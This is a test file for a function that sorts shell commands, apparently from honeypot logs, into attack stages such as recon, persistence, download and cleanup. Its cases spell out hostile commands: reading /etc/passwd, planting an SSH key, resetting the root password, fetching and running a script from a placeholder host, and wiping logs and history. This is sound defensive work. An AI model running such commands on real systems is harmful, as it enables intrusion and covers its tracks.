import { describe, expect, test } from "bun:test";
import { purposeOf } from "../../../lib/text/purpose.ts";
import { type Purpose, PURPOSES } from "../../../lib/text/purpose-names.ts";

describe("purposeOf", () => {
  const cases: [string, Purpose][] = [
    ["uname -a", "recon"],
    ["cat /proc/cpuinfo | grep name | wc -l", "recon"],
    ["cat /etc/passwd", "recon"],
    ["cat /etc/passwd 2>/dev/null", "recon"],
    ["crontab -l", "recon"],
    ["which wget", "recon"],
    ["/ip cloud print", "recon"],
    ["cd ~; chattr -ia .ssh; lockr -ia .ssh", "persistence"],
    ['cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa <key>">>.ssh/authorized_keys', "persistence"],
    ['echo "root:<password>"|chpasswd|bash', "persistence"],
    ["(crontab -l; echo x) | crontab -", "persistence"],
    ["cd /tmp; wget http://<host>/x.sh; chmod 777 x.sh; sh x.sh; rm -rf *", "download"],
    ["/bin/busybox wget http://<host>/a -O -> a", "download"],
    ["echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .a", "download"],
    ["./x86", "execution"],
    ["nohup /root/exp > /dev/null 2>&1 &", "execution"],
    ["sh x.sh", "execution"],
    ["rm -rf /var/log/wtmp", "cleanup"],
    ["unset HISTFILE; history -c", "cleanup"],
    ["HISTFILE=/dev/null", "cleanup"],
    ["export HISTSIZE=0", "cleanup"],
    ["enable", "probe"],
    ["sh", "probe"],
    ["/bin/busybox ECCHI", "probe"],
    ["/bin/busybox <name>", "probe"],
    ["cat /proc/mounts; /bin/busybox SORA", "probe"],
    ["tftp; wget; /bin/busybox ABCDE", "probe"],
    ['echo -e "\\x6F\\x6B"', "probe"],
    ["exit", "other"],
    ["", "other"],
    ["__proto__", "other"],
    ["constructor; toString", "other"],
  ];
  test.each(cases)("%s: %s", (command, purpose) => {
    expect(purposeOf(command)).toBe(purpose);
  });

  test("whatever is typed has a purpose, and a megabyte takes no longer than its beginning", () => {
    const ids = PURPOSES.map(({ id }) => id);
    for (const text of ["\u0000", "\ud800", ";".repeat(1e6), "wget ".repeat(2e5), "$(".repeat(5e5), "'".repeat(1e6)]) {
      expect(ids).toContain(purposeOf(text));
    }
  });
});
